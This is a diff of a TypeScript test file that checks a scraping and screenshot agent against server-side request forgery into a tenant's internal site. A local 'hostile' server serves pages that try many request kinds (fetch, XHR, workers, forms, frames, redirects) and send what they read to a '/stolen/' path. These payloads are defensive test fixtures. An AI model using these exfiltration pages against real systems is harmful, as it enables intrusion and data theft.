@@ -2,13 +2,16 @@
 import { type Browser, chromium } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import type { FetchedPage, ScreenshotProblems } from "../../agents/core/documents.ts";
-import type { Fetched } from "../../agents/net/fetch.ts";
+import { decodePage, type Fetched } from "../../agents/net/fetch.ts";
+import { createGuard } from "../../agents/net/guard.ts";
+import { redirectRule } from "../../agents/net/redirects.ts";
+import { createVisitor } from "../../agents/net/site.ts";
 import { draw } from "../../agents/page/draw.ts";
 import { listen, type Running, startChromium } from "../integration/agents/services.ts";
 import { type StepEnvironment, startStepEnvironment } from "../integration/agents/step-environment.ts";
 
-/** By kind of request: a page that makes one to `to`, and reports what it can read of the answer to its own host. */
-const kinds: Record<string, (to: string) => string> = {
+/** By kind of request: what makes one to `to`, and gives `report` what it can read of the answer. */
+const kinds: Record<string, (to: string, report: string) => string> = {
   img: (to) => `<img src="${to}">`,
   style: (to) => `<link rel="stylesheet" href="${to}">`,
   font: (to) => `<style>@font-face { font-family: x; src: url(${to}) }</style><p style="font-family: x">x`,
@@ -16,15 +19,15 @@ const kinds: Record<string, (to: string) => string> = {
   object: (to) => `<object data="${to}"></object>`,
   "image of a style": (to) => `<p style="background: url(${to})">x`,
   script: (to) => `<script src="${to}"></script>`,
-  fetch: (to) => `<script>fetch("${to}").then((answer) => answer.text()).then(report)</script>`,
+  fetch: (to, report) => `<script>fetch("${to}").then((answer) => answer.text()).then(${report})</script>`,
   "fetch without CORS": (to) => `<script>fetch("${to}", { mode: "no-cors" })</script>`,
-  XHR: (to) => `<script>const x = new XMLHttpRequest(); x.open("GET", "${to}");
-    x.onload = () => report(x.responseText); x.send()</script>`,
+  XHR: (to, report) => `<script>{ const x = new XMLHttpRequest(); x.open("GET", "${to}");
+    x.onload = () => (${report})(x.responseText); x.send() }</script>`,
   EventSource: (to) => `<script>new EventSource("${to}")</script>`,
   "import()": (to) => `<script>import("${to}").catch(() => {})</script>`,
-  "fetch of a worker": (to) => `<script>
+  "fetch of a worker": (to, report) => `<script>{
     const source = 'fetch("${to}").then((answer) => answer.text()).then(postMessage)';
-    new Worker(URL.createObjectURL(new Blob([source]))).onmessage = ({ data }) => report(data)</script>`,
+    new Worker(URL.createObjectURL(new Blob([source]))).onmessage = ({ data }) => (${report})(data) }</script>`,
   "form in a frame": (to) => `<iframe name="in"></iframe><form target="in" action="${to}"></form>
     <script>document.forms[0].submit()</script>`,
   "frame that moves on": (to) => `<iframe srcdoc='<script>location.href = "${to}"</script>'></iframe>`,
@@ -32,15 +35,12 @@ const kinds: Record<string, (to: string) => string> = {
 /** What is never sent, wherever to. */
 const unsent: typeof kinds = {
   beacon: (to) => `<script>navigator.sendBeacon("${to}", "x")</script>`,
-  "form of the page": (to) => `<form method="post" action="${to}"></form><script>document.forms[0].submit()</script>`,
   prerender: (to) => `<script type="speculationrules">{"prerender": [{"urls": ["${to}"]}]}</script>`,
+  // The last: its page is left for the answer.
+  "form of the page": (to) => `<form id="own" method="post" action="${to}"></form>
+    <script>setTimeout(() => document.getElementById("own").submit(), 1000)</script>`,
 };
 const readers = ["fetch", "XHR", "fetch of a worker"];
-
-/** The style sheet holds the page up, so that what its scripts ask for has the time to arrive. */
-const page = (body: string, job: string) => `<!doctype html><body>
-<script>const report = (text) => { new Image().src = "/stolen/${job}?" + encodeURIComponent(text) }</script>${body}
-<link rel="stylesheet" href="/slow/${job}"></body>`;
 
 describe("with a tenant's internal site among its allowed ones", () => {
   const all = Object.entries({ ...kinds, ...unsent });
@@ -51,6 +51,17 @@ describe("with a tenant's internal site among its allowed ones", () => {
   const own: string[] = [];
   let told: ScreenshotProblems;
 
+  /** One page that asks in every way. The style sheet holds it up, so that what its scripts ask for has the time to arrive. */
+  function page(which: string): string {
+    const target = { attack: `${internal.url}/`, twin: `${hostile.url}/own/`, through: `${hostile.url}/redirect/` }[
+      which
+    ];
+    const ways = all.map(([, way], n) =>
+      way(`${target}${n}`, `(text) => { new Image().src = "/stolen/${which}/${n}?" + encodeURIComponent(text) }`),
+    );
+    return `<!doctype html><body>${ways.join("\n")}<link rel="stylesheet" href="/slow/${which}"></body>`;
+  }
+
   beforeAll(async () => {
     environment = await startStepEnvironment();
     internal = await listen((request, response) => {
@@ -60,33 +71,28 @@ describe("with a tenant's internal site among its allowed ones", () => {
     hostile = await listen((request, response) => {
       const url = request.url ?? "";
       own.push(url);
-      const [, which, n] = /^\/(attack|twin|through)\/(\d+)$/.exec(url) ?? [];
       const send = (type: string, text: string) => response.writeHead(200, { "content-type": type }).end(text);
-      if (url.startsWith("/slow/")) return setTimeout(() => send("text/css", ""), 700);
+      if (url.startsWith("/slow/")) return setTimeout(() => send("text/css", ""), 2_000);
       if (url.startsWith("/redirect/")) return response.writeHead(302, { location: internal.url + url }).end();
       if (url.startsWith("/own/")) return send("text/plain", "own figures");
-      if (!which) return response.writeHead(404).end();
-      const targets = { attack: `${internal.url}/${n}`, twin: `/own/${n}`, through: `/redirect/${n}` };
-      const target = new URL(targets[which as keyof typeof targets], hostile.url).href;
-      return send("text/html", page(all[Number(n)]?.[1](target) ?? "", `${which}/${n}`));
+      if (/^\/(attack|twin|through)$/.test(url)) return send("text/html", page(url.slice(1)));
+      return response.writeHead(404).end();
     });
-    await shoot("attack", { PAGE_SCRIPTS: "true" });
+    for (const which of ["attack", "twin", "through"]) await shoot(which, which, { PAGE_SCRIPTS: "true" });
     told = environment.json<ScreenshotProblems>("attack", "screenshots/problems.json");
-    await shoot("twin", { PAGE_SCRIPTS: "true" });
-    await shoot("through", { PAGE_SCRIPTS: "true" });
   });
   afterAll(async () => {
     await Promise.all([environment[Symbol.asyncDispose](), hostile.stop(), internal.stop()]);
   });
 
-  async function shoot(job: string, more: Record<string, string>, pages = all.map((_, n) => `/${job}/${n}`)) {
+  async function shoot(job: string, path: string, more: Record<string, string> = {}) {
     const env = environment.env(job, {
-      TARGET_URLS: JSON.stringify(pages.map((path) => hostile.url + path)),
+      TARGET_URLS: JSON.stringify([`${hostile.url}/${path}`]),
       ALLOWED_HOSTS: `127.0.0.1:${hostile.port},127.0.0.1:${internal.port}`,
       ...more,
     });
     for (const step of ["scrape", "screenshot"] as const) {
-      const run = await environment.run(step, env);
+      const run = await environment.run(step, env, { drawLimits: { loadMs: 6_000 } });
       if (run.code !== 0) throw new Error(run.output);
     }
   }
@@ -113,11 +119,62 @@ describe("with a tenant's internal site among its allowed ones", () => {
 
   test("no script of a page runs unless the workload asks for it", async () => {
     own.length = 0;
-    const [image, script] = ["img", "fetch"].map((wanted) => all.findIndex(([kind]) => kind === wanted));
-    await shoot("still", {}, [`/twin/${script}`, `/twin/${image}`]);
-    expect(own).toContain(`/own/${image}`);
-    expect(own).not.toContain(`/own/${script}`);
+    await shoot("still", "twin");
+    const numberOf = (wanted: string) => all.findIndex(([kind]) => kind === wanted);
+    expect(own).toContain(`/own/${numberOf("img")}`);
+    for (const kind of ["script", "fetch", "form in a frame"]) expect(own).not.toContain(`/own/${numberOf(kind)}`);
   });
+});
+
+describe("a redirect of a site into the tenant's internal one", () => {
+  let stranger: Awaited<ReturnType<typeof listen>>;
+  let internal: Awaited<ReturnType<typeof listen>>;
+  const asked: string[] = [];
+  const page = "<!doctype html><title>Figures</title><p>internal figures";
+
+  beforeAll(async () => {
+    internal = await listen((request, response) => {
+      if (request.url !== "/robots.txt") asked.push(request.url ?? "");
+      response.writeHead(request.url === "/robots.txt" ? 404 : 200, { "content-type": "text/html" }).end(page);
+    });
+    stranger = await listen((request, response) => {
+      const to = `${internal.url}${request.url}`;
+      if (request.url === "/robots.txt") return response.writeHead(404).end();
+      if (request.url === "/status") return response.writeHead(302, { location: to }).end();
+      if (request.url === "/header")
+        return response.writeHead(200, { refresh: `0;url=${to}`, "content-type": "text/html" }).end("x");
+      response.writeHead(200, { "content-type": "text/html" }).end(`<meta http-equiv="refresh" content="0;url=${to}">`);
+    });
+  });
+  afterAll(async () => {
+    await Promise.all([stranger.stop(), internal.stop()]);
+  });
+
+  /** What is read of the stranger's path; the guard lets both through, because both are on loopback here. */
+  async function visit(path: string, { allowed = [internal], targets = [] as string[] } = {}): Promise<string> {
+    asked.length = 0;
+    const guard = createGuard([stranger, internal].map(({ port }) => `127.0.0.1:${port}`));
+    const hosts = allowed.map(({ port }) => `127.0.0.1:${port}`);
+    const mayRedirect = redirectRule(guard, hosts, [stranger.url, ...targets]);
+    try {
+      return decodePage(await createVisitor(guard, { mayRedirect, pauseMs: 0 })(stranger.url + path));
+    } finally {
+      await guard.dispatcher.close();
+    }
+  }
+
+  test.each(["/status", "/header", "/meta"])("is not followed (%s)", async (path) => {
+    await expect(visit(path)).rejects.toThrow(
+      `redirects to 127.0.0.1:${internal.port}, an internal site of the tenant: no site of others may; name it among the target URLs`,
+    );
+    expect(asked).toEqual([]);
+  });
+
+  test("is followed where that site is a target of the workload itself", async () =>
+    expect(await visit("/status", { targets: [`${internal.url}/`] })).toContain("internal figures"));
+
+  test("is followed from one internal site to another", async () =>
+    expect(await visit("/meta", { allowed: [stranger, internal] })).toContain("internal figures"));
 });
 
 describe("with the browser's own checks between origins", () => {
